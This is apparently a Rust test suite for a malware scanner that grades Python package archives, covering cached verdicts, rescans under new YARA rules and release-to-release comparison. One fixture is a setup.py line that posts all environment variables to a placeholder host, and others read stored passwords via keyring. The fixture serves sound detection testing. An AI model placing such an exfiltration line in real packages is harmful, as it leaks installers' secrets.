//! Verdicts: made once, kept by content and rules, made anew by new rules, and never missing.

use std::io::Write as _;
use std::sync::atomic::{AtomicUsize, Ordering};

use fanlight_base::SystemClock;
use fanlight_store::Sha256;

use super::*;
use crate::knowledge::Known;

const STEALS: &str = "import os, requests\nrequests.post('https://c.example.invalid', json=dict(os.environ))\n";

/// A tar archive, without compression, of one setup.py.
fn archive(setup: &str) -> Vec<u8> {
    let mut header = [0_u8; 512];
    header[..14].copy_from_slice(b"a-1.0/setup.py");
    header[100..107].copy_from_slice(b"0000644");
    header[124..135].copy_from_slice(format!("{:011o}", setup.len()).as_bytes());
    header[156] = b'0';
    header[257..263].copy_from_slice(b"ustar\0");
    header[148..156].fill(b' ');
    let sum: u32 = header.iter().map(|byte| u32::from(*byte)).sum();
    header[148..155].copy_from_slice(format!("{sum:06o}\0").as_bytes());
    let mut out = header.to_vec();
    out.extend(setup.as_bytes());
    out.resize(out.len().next_multiple_of(512) + 1024, 0);
    out
}

struct Bench {
    dir: tempfile::TempDir,
    scanning: Arc<Scanning>,
    changes: Arc<AtomicUsize>,
}

impl Bench {
    async fn open(dir: tempfile::TempDir, time: Duration) -> Self {
        let changes = Arc::new(AtomicUsize::new(0));
        let count = changes.clone();
        let parts = ScanningParts {
            store: Store::open(&dir.path().join("fanlight.db")).await.unwrap(),
            clock: Arc::new(SystemClock),
            rules: Some(dir.path().join("rules")),
            changed: Box::new(move || {
                count.fetch_add(1, Ordering::Relaxed);
            }),
        };
        let scanning = Scanning::within(time, parts).await.unwrap();
        Self { dir, scanning, changes }
    }

    async fn new() -> Self {
        Self::open(tempfile::tempdir().unwrap(), limits::SCAN_TIME).await
    }

    async fn look(&self, bytes: &[u8]) -> Arc<Verdict> {
        self.look_after(&[], bytes).await
    }

    /// The same for a release that came after others.
    async fn look_after(&self, earlier: &[Digest], bytes: &[u8]) -> Arc<Verdict> {
        let mut file = tempfile::tempfile().unwrap();
        file.write_all(bytes).unwrap();
        let (digest, content, length) = (Sha256::of(bytes).into(), Arc::new(file), bytes.len() as u64);
        self.scanning.verdict(Arrived { digest, file: "a-1.0.tar", content, length, earlier }).await
    }

    fn told(&self, bytes: &[u8]) -> Facts {
        let (purl, mut facts) = (Purl::pypi("a", Some("1.0")), Facts::new());
        let known = Known::of([Arc::new(Scanned(self.scanning.clone())) as _]);
        known.project(&Purl::pypi("a", None)).tell(
            &Told {
                release: &purl,
                version: Some("1.0"),
                file: "a-1.0.tar",
                digest: Some(Sha256::of(bytes).into()),
                attested: false,
                listing: &Vec::new,
            },
            &mut facts,
        );
        facts
    }
}

#[tokio::test]
async fn what_is_found_becomes_facts_and_a_new_judging() {
    let bench = Bench::new().await;
    let (bad, good) = (archive(STEALS), archive("from setuptools import setup\nsetup()\n"));
    assert!(bench.told(&bad).get("scan").is_none(), "nothing is known before");
    let verdict = bench.look(&bad).await;
    assert_eq!((verdict.grade, bench.changes.load(Ordering::Relaxed)), (Grade::High, 1));
    let facts = bench.told(&bad);
    assert_eq!(facts.get("scan"), Some(&"high".into()));
    let words = "collects private data and sends it away (a-1.0/setup.py:2)";
    assert_eq!(facts.get("scan_finding"), Some(&words.into()));
    assert_eq!(bench.look(&good).await.grade, Grade::Clean);
    assert!(bench.told(&good).get("scan_finding").is_none());
    assert_eq!(bench.changes.load(Ordering::Relaxed), 1, "that nothing was found changes no judgement");
}

#[tokio::test]
async fn verdicts_outlive_a_start() {
    let Bench { dir, scanning, changes } = Bench::new().await;
    let bad = archive(STEALS);
    let bench = Bench { dir, scanning, changes };
    let before = bench.look(&bad).await;
    let Bench { dir, scanning, .. } = bench;
    scanning.parts.store.close().await;
    let bench = Bench::open(dir, limits::SCAN_TIME).await;
    let known = bench.scanning.known(&Sha256::of(&bad).into()).unwrap();
    assert_eq!((known.grade, &known.words), (Grade::High, &before.words));
    let report = bench.scanning.parts.store.scan_report(&Sha256::of(&bad).into()).await.unwrap().unwrap();
    assert!(report.contains("code:steal"));
}

#[tokio::test]
async fn many_who_ask_at_once_wait_for_one_scan() {
    let bench = Arc::new(Bench::new().await);
    let bad = Arc::new(archive(STEALS));
    let asking: Vec<_> = (0..20)
        .map(|_| {
            let (bench, bad) = (bench.clone(), bad.clone());
            tokio::spawn(async move { bench.look(&bad).await })
        })
        .collect();
    for asks in asking {
        assert_eq!(asks.await.unwrap().grade, Grade::High);
    }
    assert_eq!(bench.changes.load(Ordering::Relaxed), 1);
    assert!(bench.scanning.running.lock().is_empty());
}

#[tokio::test]
async fn what_takes_too_long_or_cannot_be_read_is_unread_and_told() {
    let bench = Bench::open(tempfile::tempdir().unwrap(), Duration::ZERO).await;
    let verdict = bench.look(&archive(STEALS)).await;
    assert_eq!((verdict.grade, verdict.words.as_str()), (Grade::Unread, "looking into it took over 0ns"));
    assert_eq!(bench.changes.load(Ordering::Relaxed), 1);
    // A file that cannot be read is no clean one either: a folder is opened as a file, and reading it fails.
    let bench = Bench::new().await;
    let folder = Arc::new(File::open(bench.dir.path()).unwrap());
    let digest = Sha256::of(b"x").into();
    let arrived = Arrived { digest, file: "a.whl", content: folder, length: 100, earlier: &[] };
    let verdict = bench.scanning.verdict(arrived).await;
    assert_eq!(verdict.grade, Grade::Unread);
    assert!(verdict.words.contains("a.whl could not be read"), "{}", verdict.words);
}

#[tokio::test]
async fn what_other_rules_found_in_what_is_gone_counts_no_longer() {
    let bench = Bench::new().await;
    let blobs = Blobs::open(&bench.dir.path().join("blobs"), 1 << 30, Arc::new(SystemClock)).unwrap();
    let bad = archive(STEALS);
    bench.look(&bad).await;
    bench.scanning.look_again(&blobs).await;
    assert!(bench.told(&bad).get("scan").is_some(), "by the same rules it goes on counting");
    let folder = bench.dir.path().join("rules");
    let mut watched = Watched::new(Some(folder.clone()));
    std::fs::create_dir(&folder).unwrap();
    std::fs::write(folder.join("own.yar"), "rule own { strings: $a = \"nowhere\" condition: $a }").unwrap();
    *bench.scanning.rules.write() = Arc::new(watched.changed().await.unwrap().unwrap());
    bench.scanning.look_again(&blobs).await;
    assert!(bench.told(&bad).get("scan").is_none(), "nobody can get it without a scan by the new ones");
    assert_eq!(bench.changes.load(Ordering::Relaxed), 2);
    assert_eq!(bench.look(&bad).await.grade, Grade::High);
}

#[tokio::test]
async fn new_rules_look_again_into_what_is_cached() {
    let bench = Bench::new().await;
    let bytes = archive("acme_internal = 1\n");
    let blobs = Blobs::open(&bench.dir.path().join("blobs"), 1 << 30, Arc::new(SystemClock)).unwrap();
    let mut partial = blobs.begin().unwrap();
    partial.write(&bytes).unwrap();
    partial.finish(Sha256::of(&bytes)).unwrap();
    assert_eq!(bench.look(&bytes).await.grade, Grade::Clean);
    let folder = bench.dir.path().join("rules");
    let mut watched = Watched::new(Some(folder.clone()));
    assert!(watched.changed().await.is_none());
    std::fs::create_dir(&folder).unwrap();
    std::fs::write(
        folder.join("own.yar"),
        "rule own { meta: severity = \"high\" confidence = \"high\" strings: $a = \"acme_internal\" condition: $a }",
    )
    .unwrap();
    *bench.scanning.rules.write() = Arc::new(watched.changed().await.unwrap().unwrap());
    bench.scanning.look_again(&blobs).await;
    let verdict = bench.scanning.known(&Sha256::of(&bytes).into()).unwrap();
    assert_eq!(verdict.grade, Grade::High);
    assert!(verdict.rules.contains("+yara."), "{}", verdict.rules);
    std::fs::write(folder.join("own.yar"), "rule").unwrap();
    assert!(watched.changed().await.unwrap().is_err(), "a broken rule is said, and those from before stay");
}

#[tokio::test]
async fn what_a_release_does_that_the_one_before_did_not_is_found_and_outlives_new_rules() {
    let bench = Bench::new().await;
    let (first, second) = (archive("x = 1\n"), archive("import keyring\nkeyring.get_password('a', 'b')\n"));
    let (before, unknown): (Digest, Digest) = (Sha256::of(&first).into(), Sha256::of(b"nowhere").into());
    assert_eq!(bench.look(&first).await.grade, Grade::Clean);
    let blobs = Blobs::open(&bench.dir.path().join("blobs"), 1 << 30, Arc::new(SystemClock)).unwrap();
    let mut partial = blobs.begin().unwrap();
    partial.write(&second).unwrap();
    partial.finish(Sha256::of(&second)).unwrap();
    let words = "does something that the release before did not: reads where keys and passwords are kept, for the first \
                 time, when it is installed";
    let verdict = bench.look_after(&[unknown, before], &second).await;
    assert_eq!((verdict.grade, verdict.words.as_str()), (Grade::Medium, words));
    // New rules are no reason to forget it, though what it was compared with is not here any more.
    let folder = bench.dir.path().join("rules");
    std::fs::create_dir(&folder).unwrap();
    std::fs::write(folder.join("own.yar"), "rule own { strings: $a = \"nowhere\" condition: $a }").unwrap();
    *bench.scanning.rules.write() = Arc::new(rules::read(Some(folder)).await.unwrap());
    bench.scanning.look_again(&blobs).await;
    let verdict = bench.scanning.known(&Sha256::of(&second).into()).unwrap();
    assert!(verdict.rules.contains("+yara.") && verdict.words == words, "{verdict:?}");
}

#[tokio::test]
async fn a_release_that_does_what_the_one_before_did_brings_nothing_new() {
    let bench = Bench::new().await;
    let reads = |name: &str| archive(&format!("import keyring\nkeyring.get_password('{name}', 'b')\n"));
    let (first, second) = (reads("a"), reads("b"));
    let verdict = bench.look(&first).await;
    assert_eq!(bench.look_after(&[Sha256::of(&first).into()], &second).await.grade, verdict.grade);
}

#[tokio::test]
async fn a_scan_is_finished_and_remembered_also_where_whoever_asked_has_gone() {
    let bench = Bench::new().await;
    let bytes = archive(STEALS);
    let digest = Sha256::of(&bytes).into();
    // Asked once, so that it is begun, and then left.
    assert!(tokio::time::timeout(Duration::ZERO, bench.look(&bytes)).await.is_err(), "it takes a moment");
    assert_eq!(bench.scanning.running.lock().len(), 1);
    let known = async {
        while bench.scanning.known(&digest).is_none() {
            tokio::task::yield_now().await;
        }
    };
    tokio::time::timeout(Duration::from_secs(20), known).await.expect("it is remembered");
    assert_eq!(bench.scanning.known(&digest).unwrap().grade, Grade::High);
    while !bench.scanning.running.lock().is_empty() {
        tokio::task::yield_now().await;
    }
}
